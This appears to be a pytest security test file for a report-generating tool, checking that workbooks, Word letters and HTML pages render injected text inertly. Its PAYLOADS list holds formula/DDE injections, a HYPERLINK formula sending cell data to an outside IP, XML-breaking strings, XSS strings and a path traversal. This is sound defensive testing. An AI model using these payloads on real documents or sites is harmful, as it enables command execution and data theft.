"""What stands in rules, documents, answers and file names is text in every paper that the program writes, and no more."""

import io
import json
import re
import zipfile
from collections import Counter
from collections.abc import Iterator
from functools import cache
from pathlib import Path, PurePosixPath
from tempfile import TemporaryDirectory
from typing import Any

import openpyxl
import pytest
from lxml import etree, html

from aeo_evidence.model.result import Answer, Answers, GivenAnswer, Result
from aeo_evidence.model.rule import Language, Programme
from aeo_evidence.pipeline import Options, judge
from aeo_evidence.plainyaml import parse_yaml
from aeo_evidence.reading import read_bytes
from aeo_evidence.report.html import write_html
from aeo_evidence.report.letter import letter_file
from aeo_evidence.report.portfolio.card import card_of
from aeo_evidence.report.portfolio.shared import Portfolio
from aeo_evidence.report.portfolio.workbook import write_portfolio
from aeo_evidence.report.questionnaire import write_questionnaire
from aeo_evidence.report.start import start_papers
from aeo_evidence.report.workbook import write_workbook
from aeo_evidence.rulebook import load_rules
from tests.report.small import AS_OF
from tests.report.test_workbook_safety import assert_only_values, targets
from tests.small_rules import FILES

PAYLOADS = [
    pytest.param("=1+1", id="formula"),
    pytest.param("=cmd|' /C calc'!A0", id="DDE"),
    pytest.param("@SUM(A1:A9)", id="at"),
    pytest.param('\t=HYPERLINK("http://198.51.100.1/?"&A1,"here")', id="tab, then a link by formula"),
    pytest.param("\r=1+1", id="carriage return first"),
    pytest.param("＝1＋1", id="full width"),
    pytest.param("\u202e=1+1", id="right to left first"),
    pytest.param("\u200b=1+1", id="unseen first"),
    pytest.param("</t></is></c><c><f>1+1</f></c><![CDATA[", id="XML of a sheet"),
    pytest.param(']]></w:t><w:fldSimple w:instr="DDEAUTO calc"/>', id="XML of a letter"),
    pytest.param("</script><script>alert(1)</script>", id="script"),
    pytest.param("javascript:alert(1)", id="address of a script"),
    pytest.param('"><img src=x onerror=alert(1)>', id="markup"),
    pytest.param("../../x/C:\\y{count}{0}", id="a way out, and a template"),
]  # fmt: skip
LANGUAGES = ("en", "zh-Hant", "zh-Hans")


def spoken(value: Any, payload: str) -> Any:
    """Return what a rule file holds with the payload wherever its author writes what people read."""
    if isinstance(value, list):
        return [spoken(each, payload) for each in value]
    if not isinstance(value, dict):
        return value
    if value and all(key in LANGUAGES and isinstance(text, str) for key, text in value.items()):
        return dict.fromkeys(LANGUAGES, payload)
    told = {"means": payload, "source": payload}
    return {
        key: [payload]
        if key == "sources"
        else told.get(key) or spoken(each, payload)
        if isinstance(each, str | list | dict)
        else each
        for key, each in value.items()
    }


@cache
def rules(payload: str) -> Programme:
    with TemporaryDirectory() as folder:
        for name, text in FILES.items():
            path = Path(folder) / name
            path.parent.mkdir(parents=True, exist_ok=True)
            held = parse_yaml(text, path).value
            told = held if "cases" in name else spoken(held, payload)
            path.write_text(json.dumps(told, default=str), encoding="utf-8")
        return load_rules(Path(folder))


def workbook(rows: list[list[str]]) -> bytes:
    book = openpyxl.Workbook()
    for number, row in enumerate(rows, 1):
        for place, text in enumerate(row, 1):
            cell = book.worksheets[0].cell(number, place)
            cell.value, cell.data_type = text, "s"
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


@cache
def judged(payload: str) -> Result:
    """Return the result of a pack and answers that hold the payload everywhere, by rules that do."""
    programme = rules(payload)
    name = payload.replace("/", "_").replace("\\", "_")
    log = [
        ["Key log", payload],
        ["Name", "Date", "Key no.", payload],
        ["A. Chan", "", "K1", payload],
        [payload, "1/10/2026", "K2", ""],
    ]
    pack = {
        f"key log {name}.xlsx": workbook(log),
        f"{name}/{name}.pdf": b"%PDF-1.7\ncut",
        f"{name}.txt": f"Key rules {payload}\n\nThe keys are issued by the manager. {payload}\n".encode(),
    }
    documents = tuple(
        each for path, data in sorted(pack.items()) for each in read_bytes(data, path, programme.vocabulary)
    )
    answers = Answers(company=payload, tier=1, answers={"A1": GivenAnswer(answer=Answer.YES, remark=payload)})
    return judge(documents, programme, Options(as_of=AS_OF), answers, applicant=payload)


def package(data: bytes) -> Iterator[tuple[str, etree._Element]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                yield name, etree.fromstring(archive.read(name))


def assert_harmless_letter(data: bytes) -> None:
    """A Word file runs nothing and leads nowhere; fields tell the number of a page, and no more."""
    for name, root in package(data):
        assert not list(root.iter("{*}altChunk", "{*}object", "{*}OLEObject", "{*}control", "{*}attachedTemplate")), (
            name
        )
        told = [each.get(key, "") for each in root.iter("{*}fldSimple") for key in each.attrib]
        told += [each.text or "" for each in root.iter("{*}instrText")]
        assert {text.strip().partition(" ")[0] for text in told} <= {"PAGE", "NUMPAGES"}, name
        assert not [
            each.get("Target") for each in root.iter("{*}Relationship") if each.get("TargetMode") == "External"
        ], name


def elements(page: bytes) -> Counter[str]:
    return Counter(str(each.tag) for each in html.document_fromstring(page.decode("utf-8")).iter("*"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_rules_and_papers_say_is_text_in_every_report(payload: str) -> None:
    result = judged(payload)
    assert result.programme.rules["A1.1"].title[Language.EN].strip() == payload.strip()
    book = write_workbook(result)
    assert_only_values(book)
    assert all(re.fullmatch(r"[^:]*|(?!\w+:).*", target) for target in targets(book))
    card = card_of("one", result, {"xlsx": "one/gap-report.xlsx"})
    assert_only_values(
        write_portfolio(
            Portfolio(programme=result.programme, as_of=AS_OF, language=Language.EN, masked=True, cards=(card,))
        )
    )
    assert_harmless_letter(letter_file(result))
    page = write_html(result)
    assert elements(page)["script"] == elements(write_html(judged("zzz")))["script"]
    assert not elements(page).keys() - elements(write_html(judged("zzz"))).keys() - {"a"}
    for each in html.document_fromstring(page.decode("utf-8")).iter("*"):
        assert not [name for name in each.attrib if str(name).startswith("on")]
        assert not re.match(r"\s*(?:javascript|data:text|vbscript)", each.get("href", ""), re.IGNORECASE)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_rules_say_is_text_in_every_form(payload: str) -> None:
    programme = rules(payload)
    assert_only_values(write_questionnaire(programme, 1, Language.ZH_HANT))
    papers = list(start_papers(programme, 1, Language.EN))
    assert {PurePosixPath(paper.path).suffix for paper in papers} == {".xlsx", ".docx"}
    for paper in papers:
        assert ".." not in PurePosixPath(paper.path).parts
        assert not re.search(r'[\\:*?"<>|\x00-\x1f]', paper.path)
        if paper.path.endswith(".xlsx"):
            assert_only_values(paper.data)
        else:
            assert_harmless_letter(paper.data)
